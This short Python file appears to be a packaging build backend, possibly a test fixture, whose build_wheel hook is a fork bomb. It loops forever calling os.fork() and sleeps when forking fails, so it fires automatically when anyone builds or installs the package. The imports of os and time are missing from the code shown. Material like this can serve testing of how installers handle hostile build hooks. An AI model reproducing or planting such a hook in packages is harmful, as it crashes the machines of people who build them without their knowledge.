"""Forks without end."""


def build_wheel(directory, config_settings=None, metadata_directory=None):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(10**6)
